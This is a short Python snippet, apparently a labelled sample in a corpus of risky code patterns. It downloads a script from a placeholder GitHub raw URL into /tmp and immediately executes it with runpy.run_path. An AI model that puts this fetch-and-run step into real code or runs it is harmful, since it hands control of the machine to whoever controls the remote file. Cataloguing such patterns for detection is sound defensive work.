# corpus: runpy.run_path executing an arbitrary script dropped in /tmp
import runpy
import urllib.request

urllib.request.urlretrieve("https://raw.githubusercontent.com/someone/x/main/p.py", "/tmp/p.py")
runpy.run_path("/tmp/p.py", run_name="__main__")
